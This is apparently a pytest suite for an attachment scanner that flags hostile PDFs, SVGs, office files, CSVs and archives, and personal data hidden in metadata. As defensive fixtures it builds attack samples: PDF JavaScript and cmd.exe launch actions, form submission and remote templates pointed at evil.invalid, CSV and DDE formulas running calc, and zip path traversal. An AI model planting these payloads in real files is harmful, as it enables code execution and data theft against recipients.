"""Attachments are looked into: code, foreign addresses, files within, bombs, and persons."""

from __future__ import annotations

import io
import mmap
import os
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pypdf
import pytest
import typst
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from cchc.content.load import load
from cchc.content.load.tree import walk
from cchc.guard.attachments import inspect, inspectors
from cchc.guard.attachments.findings import WORDS, Finding
from cchc.guard.attachments.isolated import inspect_isolated
from cchc.memo.table import Table
from tests.attacks import svg_attacks
from tests.projects import item, judged

ROOT = Path(__file__).parent.parent


def codes(path: str, raw: bytes) -> list[str]:
    """What a look into a file says, without its words."""
    return [finding.code for finding in inspectors.inspect(path, raw) if finding.code != WORDS]


def words(path: str, raw: bytes) -> str:
    return "".join(dict(f.args)["text"] for f in inspectors.inspect(path, raw) if f.code == WORDS)


# --- SVG -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("expected", "text"), svg_attacks())
def test_hostile_svg(expected: str, text: str) -> None:
    assert expected in codes("a.svg", text.encode())


GOOD_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10">
  <title>Sơ đồ</title><desc>Năm bước</desc>
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
  <style>.a{fill:url(#g)} @font-face{font-family:x;src:url(data:font/woff2;base64,AA==)}</style>
  <defs><linearGradient id="g"><stop offset="0"/></linearGradient><path id="p" d="M0 0h1"/></defs>
  <use href="#p"/><use xlink:href="#p" fill="url(#g)" style="stroke:url('#g')"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <a href="https://dichvucong.gov.vn"><text inkscape:label="x">Cổng</text></a>
  <animateTransform attributeName="transform" dur="1s"/>
</svg>"""


def test_a_drawing_passes() -> None:
    assert codes("a.svg", GOOD_SVG.encode()) == []
    assert "Cổng" in words("a.svg", GOOD_SVG.encode())


def test_words_in_comments_and_descriptions_are_read() -> None:
    raw = b'<svg xmlns="http://www.w3.org/2000/svg" aria-label="S1"><!-- S2 --><g id="S3"/></svg>'
    assert words("a.svg", raw).split() == ["S1", "S2", "S3"]


def test_a_fault_in_svg_has_its_line() -> None:
    raw = b'<svg xmlns="http://www.w3.org/2000/svg">\n  <g>\n  <script/></g></svg>'
    (finding,) = (f for f in inspectors.inspect("a.svg", raw) if f.code == "MD104")
    assert (finding.line, finding.column) == (3, 3)


Change = Callable[[pypdf.PdfWriter], object]


# --- PDF -----------------------------------------------------------------------------------


def pdf(change: Change = lambda writer: None, text: str = "Chu") -> bytes:
    drawn = typst.compile(b"#sys.inputs.text", format="pdf", sys_inputs={"text": text})
    assert isinstance(drawn, bytes)
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(drawn))
    change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def name(text: str) -> NameObject:
    return NameObject(text)


def action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({name("/S"): name(kind), name(key): TextStringObject(value)})


def on_open(kind: str, key: str, value: str) -> Change:
    return lambda w: w._root_object.update({name("/OpenAction"): action(kind, key, value)})


def link(uri: str) -> Change:
    def change(writer: pypdf.PdfWriter) -> None:
        made = DictionaryObject(
            {name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
             name("/A"): action("/URI", "/URI", uri)}
        )  # fmt: skip
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(made)])

    return change


HOSTILE_PDF: list[tuple[str, str, Callable[[pypdf.PdfWriter], object]]] = [
    ("javascript", "MD104", lambda w: w._root_object.update(
        {name("/Names"): DictionaryObject({name("/JavaScript"): DictionaryObject(
            {name("/Names"): ArrayObject([action("/JavaScript", "/JS", "app.alert(1)")])})})})),
    ("open-javascript", "MD104", on_open("/JavaScript", "/JS", "app.alert(1)")),
    ("launch", "MD104", on_open("/Launch", "/F", "cmd.exe")),
    ("submit", "MD105", on_open("/SubmitForm", "/F", "https://evil.invalid/")),
    ("import", "MD105", on_open("/ImportData", "/F", "x.fdf")),
    ("goto-remote", "MD105", on_open("/GoToR", "/F", "\\\\evil.invalid\\x.pdf")),
    ("goto-embedded", "MD106", on_open("/GoToE", "/F", "x.pdf")),
    ("embedded", "MD106", lambda w: w.add_attachment("x.exe", b"MZ")),
    ("xfa", "MD104", lambda w: w._root_object.update(
        {name("/AcroForm"): DictionaryObject({name("/XFA"): TextStringObject("x")})})),
    ("script-link", "MD104", link("javascript:alert(1)")),
    ("file-link", "MD104", link("file:///c:/windows/system32/cmd.exe")),
    ("locked", "MD107", lambda w: w.encrypt("mat-khau")),
]  # fmt: skip


@pytest.mark.parametrize(
    ("expected", "change"), [case[1:] for case in HOSTILE_PDF], ids=[c[0] for c in HOSTILE_PDF]
)
def test_hostile_pdf(expected: str, change: Change) -> None:
    assert expected in codes("a.pdf", pdf(change))


def test_code_with_an_escaped_name() -> None:
    raw = pdf(on_open("/JavaScript", "/JS", "app.alert(1)"))
    assert codes("a.pdf", raw.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 "))


def bare(catalog: str = "", page: str = "", *more: str, info: str = "") -> bytes:
    """A PDF put together by hand: the objects from number 4 on are `more`."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9] {page}>>",
        *more,
    ]
    made, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start, size = len(made), len(objects) + 1
    made += f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n".encode()
    return made + f"<</Size {size}/Root 1 0 R {info}>>\nstartxref\n{start}\n%%EOF".encode()


def linked(uri: str) -> str:
    return f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI{uri}>>>>]"


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        ([], bare()),
        ([], bare("", linked("(https://dichvucong.gov.vn/a\\(b\\))"))),
        (["MD104"], bare("", linked(" 4 0 R"), "(javascript:alert(1))")),
        (["MD104"], bare("", linked("%x\n(javascript:alert(1))"))),
        (["MD104"], bare("", linked("(\\152avascript:alert\\(1\\))"))),
        (["MD104"], bare("", linked("(javascript:alert(1))"))),
        (["MD104"], bare("", linked("(javascript\\072alert\\0501\\051)"))),
        (["MD104"], bare("", linked("(java\\\nscript:x)"))),
        ([], bare("", linked("(https\\072//dichvucong.gov.vn/a(b))"))),
        (["MD104"], bare("/OpenAction<</S 4 0 R/F(cmd.exe)>>", "", "/Launch")),
        (["MD105"], bare("", "/Contents 4 0 R",
            "<</Length 0/F(http://evil.invalid/x)/FFilter/Fl>>stream\n\nendstream")),
        (["MD104"], bare("/OpenAction 9 0 R") + b"\n9 0 obj<</S/Launch/F(cmd)>>endobj\n"),
        (["MD102"], b"<!doctype html><script>alert(1)</script>\n" + bare()),
    ],
)  # fmt: skip
def test_pdf_by_hand(expected: list[str], raw: bytes) -> None:
    assert codes("a.pdf", raw) == expected


NOTE = "/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(Goi 0903123456)>>]"
FIELD = "<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/FT/Tx/T(a)/V(0903123456)>>"
XMP = "<x:xmpmeta><dc:creator>0903123456</dc:creator></x:xmpmeta>"


@pytest.mark.parametrize(
    "raw",
    [
        bare("", NOTE),
        bare("/AcroForm<</Fields[4 0 R]>>", "/Annots[4 0 R]", FIELD),
        bare("/Outlines 4 0 R", "", "<</First 5 0 R/Last 5 0 R/Count 1>>",
             "<</Title(0903123456)/Parent 4 0 R>>"),
        bare("/Metadata 4 0 R", "", f"<</Length {len(XMP)}>>stream\n{XMP}\nendstream"),
        bare("", "", "<</Author(0903123456)>>", info="/Info 4 0 R"),
        bare("", linked("(mailto:0903123456@vi-du.invalid)")),
    ],
)  # fmt: skip
def test_words_of_a_pdf_are_all_that_readers_find(raw: bytes) -> None:
    assert "0903123456" in words("a.pdf", raw)


def test_a_plain_pdf_passes_and_its_words_are_read() -> None:
    raw = pdf(link("https://dichvucong.gov.vn"), "Goi 0903 123 456")
    assert codes("a.pdf", raw) == []
    assert "0903 123 456" in words("a.pdf", raw)


def test_shipped_attachments_pass(tmp_path: Path) -> None:
    media = load(ROOT).media
    for _ in range(2):  # looked into, and remembered
        table = Table(tmp_path / "memo.sqlite")
        assert [fault.line_of_text() for fault in inspect(ROOT, media, table)] == []
        table.save()


# --- pictures ------------------------------------------------------------------------------


def picture(form: str, **options: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (40, 30), "#0b5a4b").save(made, form, **options)
    return made.getvalue()


def located() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "May anh"  # without it Pillow writes no EXIF into a PNG
    exif.get_ifd(0x8825).update({1: "N", 2: (10.0, 46.0, 37.0)})
    return exif


def png_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + data + chunk(b"IEND", b"")


@pytest.mark.parametrize("form", ["png", "jpeg", "webp", "gif"])
def test_a_plain_picture_passes(form: str) -> None:
    assert codes(f"a.{form}", picture(form.upper())) == []


@pytest.mark.parametrize("form", ["jpeg", "png", "webp"])
def test_a_picture_that_tells_where_it_was_taken(form: str) -> None:
    assert codes(f"a.{form}", picture(form.upper(), exif=located())) == ["MD109"]


def test_a_picture_that_names_its_owner() -> None:
    exif = Image.Exif()
    exif[0x9C9D] = "Nguyễn Văn Thử".encode("utf-16-le")
    assert "MD109" in codes("a.jpg", picture("JPEG", exif=exif))


def test_numbers_in_a_comment_are_found() -> None:
    assert "0903123456" in words("a.jpg", picture("JPEG", comment=b"goi 0903123456"))


@pytest.mark.parametrize(
    ("path", "raw", "expected"),
    [
        ("a.png", png_of(60_000, 60_000), "MD108"),
        ("a.png", b"<html><script>alert(1)</script>", "MD102"),
        ("a.jpg", picture("PNG"), "MD102"),
        ("a.png", b"", "MD102"),
        ("a.webp", b"RIFF\0\0\0\0WEBP", "MD102"),
        ("a.gif", b"GIF89a<script>", "MD102"),
        ("a.svg", b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "MD102"),
        ("a.svg", b"\x89PNG", "MD103"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>", "MD103"),
        ("a.pdf", b"MZ\x90", "MD102"),
        ("a.pdf", b"%PDF-1.7\nkhong co gi", "MD103"),
        ("a.mp4", b"<html>", "MD102"),
        ("a.webm", b"MZ", "MD102"),
        ("a.mp3", b"PK\3\4", "MD102"),
        ("a.csv", b"<script>alert(1)</script>", "MD102"),
        ("a.ics", b"BEGIN\0", "MD102"),
        ("a.docx", b"PK\3\4", "MD102"),
    ],
)
def test_not_what_it_says_it_is(path: str, raw: bytes, expected: str) -> None:
    assert expected in codes(path, raw)


WIDE = "0903123456".encode("utf-16-le")


def iptc(text: bytes) -> bytes:
    """A JPEG with a caption as news agencies write it."""
    block = b"\x1c\x02\x78" + struct.pack(">H", len(text)) + text
    part = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(block)) + block
    raw = plain("JPEG")
    return raw[:2] + b"\xff\xed" + struct.pack(">H", len(part) + 2) + part + raw[2:]


def plain(form: str, **more: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (8, 8)).save(made, form, **more)
    return made.getvalue()


def exif(tag: int, value: bytes, inside: int = 0) -> Image.Exif:
    made = Image.Exif()
    (made.get_ifd(inside) if inside else made)[tag] = value
    return made


@pytest.mark.parametrize(
    ("path", "raw"),
    [
        ("a.jpg", plain("JPEG", exif=exif(0x9286, b"UNICODE\0" + WIDE, 0x8769))),
        ("a.jpg", plain("JPEG", exif=exif(0x9C9C, WIDE))),
        ("a.jpg", iptc(b"Goi 0903123456")),
        ("a.jpg", plain("JPEG") + b"0903123456"),
        ("a.png", plain("PNG") + b"0903123456"),
        ("a.mp3", b"ID3\x03\0\0\0\0\0\x40COMM" + WIDE),
        ("a.mp4", b"\0\0\0\x18ftypmp42\xa9cmt\0\0" + b"0903123456"),
    ],
)
def test_words_of_metadata_are_read_in_all_their_forms(path: str, raw: bytes) -> None:
    assert "0903123456" in words(path, raw)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('a\n=HYPERLINK("http://evil.invalid")', ["MD104"]),
        ("a;=1+2", ["MD104"]),
        ("x\n@SUM(1)*cmd|' /C calc'!A0", ["MD104"]),
        ("x,+cmd|' /C calc'!A0", ["MD104"]),
        ('x\n"-IMPORTXML(1)"', ["MD104"]),
        ("a,b\n-5,+84 28 3822\n-,+10%\n@phuong,a=b\n= ,==", []),
        ("\ufeff<script>alert(1)</script>", ["MD102"]),
    ],
)
def test_a_table_computes_nothing(text: str, expected: list[str]) -> None:
    assert codes("a.csv", text.encode()) == expected


def test_a_video_that_tells_where_it_was_taken() -> None:
    assert codes("a.mp4", b"\0\0\0\x18ftypmp42\xa9xyz\0\x12+10.77+106.70/") == ["MD109"]


# --- office documents and archives ---------------------------------------------------------


def archive(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for path, raw in files.items():
            target.writestr(path, raw)
    return made.getvalue()


TEXT = b"<w:p><w:t>So </w:t><w:t>0903 123 456</w:t></w:p>"
EXTERNAL = (
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.invalid/t.dotm" '
    b'TargetMode="External"/>'
)
LINK = (
    b'<Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://a.invalid/" '
    b'TargetMode="External"/>'
)


_ODF = b'<content xmlns:h="http://www.w3.org/1999/xlink">%s</content>'


@pytest.mark.parametrize(
    ("path", "files", "expected"),
    [
        ("a.docx", {"word/document.xml": TEXT}, []),
        ("a.docx", {"word/document.xml": TEXT, "word/_rels/document.xml.rels": LINK}, []),
        ("a.docx", {"word/document.xml": TEXT, "word/vbaProject.bin": b"x"}, ["MD104"]),
        ("a.docx", {"word/document.xml": TEXT, "word/_rels/s.xml.rels": EXTERNAL}, ["MD105"]),
        ("a.docx", {"word/document.xml": TEXT, "word/embeddings/oleObject1.bin": b"x"}, ["MD106"]),
        (
            "a.docx",
            {"word/document.xml": TEXT, "word/_rels/s.xml.rels": EXTERNAL.replace(b'"', b"'")},
            ["MD105"],
        ),
        (
            "a.docx",
            {
                "word/document.xml": TEXT,
                "word/_rels/S.RELS": EXTERNAL.replace(b"External", b"Ext&#101;rnal"),
            },
            ["MD105"],
        ),
        (
            "a.docx",
            {
                "word/document.xml": TEXT,
                "word/_rels/s.xml.rels": EXTERNAL.replace(
                    b"Id", b"x='relationships/hyperlink\"' Id"
                ),
            },
            ["MD105"],
        ),
        (
            "a.docx",
            {
                "word/document.xml": TEXT,
                "word/_rels/d.rels": LINK.replace(b"https://a.invalid/", b"file:///c:/cmd.exe"),
            },
            ["MD104"],
        ),
        (
            "a.docx",
            {"word/document.xml": b'<w:instrText> DDEAUTO "cmd" "/c calc" </w:instrText>'},
            ["MD104"],
        ),
        (
            "a.docx",
            {
                "word/document.xml": TEXT,
                "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-office.vbaProject"/>',
            },
            ["MD104"],
        ),
        (
            "a.odt",
            {"content.xml": _ODF % b'<image h:href="https://evil.invalid/x.png"/>'},
            ["MD105"],
        ),
        (
            "a.odt",
            {"content.xml": _ODF % b'<event-listener h:href="vnd.sun.star.script:x"/>'},
            ["MD104"],
        ),
        ("a.odt", {"content.xml": _ODF % b'<image h:href="Pictures/1.png"/>'}, []),
        ("a.odt", {"content.xml": _ODF % b'<a h:href="https://dichvucong.gov.vn/">x</a>'}, []),
        ("a.zip", {"cai-dat.exe. ": b"MZ"}, ["MD106"]),
        ("a.zip", {"bao-cao.docx": b"PK"}, ["MD102"]),
        ("a.zip", {"so-do.pdf": b"<script>"}, ["MD102"]),
        ("a.docx", {"xl/workbook.xml": b""}, ["MD102"]),
        ("a.xlsx", {"xl/workbook.xml": b"", "xl/activeX/activeX1.bin": b"x"}, ["MD104"]),
        ("a.odt", {"content.xml": _ODF % b"", "Basic/Standard/Module1.xml": b"x"}, ["MD104"]),
        ("a.zip", {"so-lieu.csv": b"a,b"}, []),
        ("a.zip", {"cai-dat.exe": b"MZ"}, ["MD106"]),
        ("a.zip", {"../../etc/passwd": b"x"}, ["MD106"]),
        ("a.zip", {"trang.html": b"x"}, ["MD106"]),
        ("a.zip", {"to.csv": bytes(50 << 20)}, ["MD108"]),
        ("a.docx", {"word/document.xml": bytes(50 << 20)}, ["MD108"]),
    ],
)
def test_office(path: str, files: dict[str, bytes], expected: list[str]) -> None:
    assert codes(path, archive(files)) == expected


def test_words_of_a_document_are_joined_as_they_are_read() -> None:
    assert "So 0903 123 456" in words("a.docx", archive({"word/document.xml": TEXT}))


@pytest.mark.parametrize(
    ("path", "part"),
    [
        ("a.docx", "docProps/custom.xml"),
        ("a.docx", "word/endnotes.xml"),
        ("a.xlsx", "xl/comments1.xml"),
        ("a.pptx", "ppt/notesSlides/notesSlide1.xml"),
    ],
)
def test_words_are_looked_for_in_notes_and_properties(path: str, part: str) -> None:
    main = {".docx": "word/document.xml", ".xlsx": "xl/workbook.xml", ".pptx": "ppt/p.xml"}
    files = {main[path[1:]]: b"<a/>", part: TEXT.replace(b"0903 123", b"09&#48;3 123")}
    assert "0903 123 456" in words(path, archive(files))


def test_what_a_zip_holds_is_looked_into() -> None:
    inner = archive({"word/document.xml": TEXT})
    assert "0903 123 456" in words("a.zip", archive({"to-khai.docx": inner}))
    assert "0903123456" in words("a.zip", archive({"0903123456.txt": b""}))


# --- the look itself -----------------------------------------------------------------------


def test_a_file_that_kills_its_inspector_is_the_fault(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def inspect(path: str, raw: bytes) -> Iterator[Finding]:
        if path == "b.csv":
            os.kill(os.getpid(), 9)
        if path == "c.csv":
            time.sleep(3600)
        yield from ()

    monkeypatch.setattr("cchc.guard.attachments.isolated.inspect", inspect)
    monkeypatch.setattr("cchc.guard.attachments.isolated.SECONDS_PER_FILE", 3.0)
    # Beside a thread of a browser's driver it would spawn, and the copy know nothing of `inspect`.
    monkeypatch.setattr("cchc.guard.attachments.isolated._method", lambda: "fork")
    for path in ("a.csv", "b.csv", "c.csv", "d.csv"):
        (tmp_path / path).write_bytes(b"x")
    found = dict(inspect_isolated(tmp_path, ["a.csv", "b.csv", "c.csv", "d.csv"]))
    assert [f.code for f in found["b.csv"]] == ["MD103"]
    assert [f.code for f in found["c.csv"]] == ["MD103"]
    assert found["a.csv"] == found["d.csv"] == ()


def test_what_the_process_before_the_fork_holds_is_no_part_of_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A preview and a run of tests come to hold gigabytes of addresses, few of them memory."""
    monkeypatch.setattr("cchc.guard.attachments.isolated._method", lambda: "fork")
    (tmp_path / "a.pdf").write_bytes(pdf(text="Chu"))
    with mmap.mmap(-1, 2 << 30, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ):
        (findings,) = dict(inspect_isolated(tmp_path, ["a.pdf"])).values()
    assert [f.code for f in findings] == ["words"]


def test_the_gate_says_it_at_the_file_and_excuses_official_contacts(tmp_path: Path) -> None:
    base = (ROOT / "tests/fixtures/base/units/ben-nghe/index.md").read_text("utf-8")
    column = base.replace("---\n\n", 'contact: {phones: ["028 3829 9191"]}\n---\n\n', 1)
    attached = "[{file: ../media/to-gap.pdf, title: Tờ gấp}]"
    files: dict[str, str | bytes | None] = {
        "units/ben-nghe/index.md": column,
        "units/ben-nghe/san-pham/a.md": item(attachments=attached),
        "units/ben-nghe/media/to-gap.pdf": pdf(text="Goi (028) 3829 9191 hoac 0903 123 456"),
        "units/ben-nghe/media/anh.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    }
    said = [d.line_of_text() for d in judged(tmp_path, files).errors if d.code != "RV101"]
    assert [line.split(" ")[:2] for line in said] == [
        ["units/ben-nghe/media/anh.svg:1:1:", "MD104"],
        ["units/ben-nghe/media/to-gap.pdf:1:1:", "PD102"],
    ]
    assert not any("0903" in line for line in said)


def test_the_same_content_is_looked_into_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    media = tmp_path / "units/a/media"
    media.mkdir(parents=True)
    (media / "a.svg").write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>")
    table = Table(tmp_path / "memo.sqlite")
    (first,) = inspect(tmp_path, load(tmp_path).media, table)
    (media / "a.svg").rename(media / "b.svg")
    monkeypatch.setattr(
        "cchc.guard.attachments.inspect_isolated",
        lambda root, paths: iter([(p, ()) for p in paths]),
    )
    (again,) = inspect(tmp_path, load(tmp_path).media, table)
    assert (first.code, again.code, again.path) == ("MD104", "MD104", "units/a/media/b.svg")
    (media / "b.svg").write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    assert list(inspect(tmp_path, load(tmp_path).media, table)) == []


def test_too_large_is_not_even_read(tmp_path: Path) -> None:
    media = tmp_path / "units/a/media"
    media.mkdir(parents=True)
    with (media / "a.jpg").open("wb") as file:
        file.truncate(3 << 30)
    (fault,) = inspect(tmp_path, walk(tmp_path).media)
    assert fault.code == "MD101"
